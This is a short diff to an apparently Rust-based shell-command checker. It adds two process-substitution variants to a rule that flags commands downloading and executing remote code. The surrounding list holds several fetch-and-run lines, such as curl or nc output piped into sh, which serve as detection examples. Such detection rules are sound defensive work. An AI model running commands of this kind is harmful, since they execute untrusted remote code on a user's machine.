@@ -342,6 +342,8 @@ pub(in crate::check) static BASH_RUN_DOWNLOAD: Rule = Rule {
         "bash -c 'curl http://x | sh'\n",
         "ssh host 'curl http://x | sh'\n",
         "nc host 80 | sh\n",
+        "curl http://x > >(sh)\n",
+        "curl http://x | tee >(sh)\n",
         "curl http://x | awk -f -\n",
         "find . -exec sh -c 'curl http://x | sh' \\;\n",
         "echo 'curl http://x | sh' | bash\n",
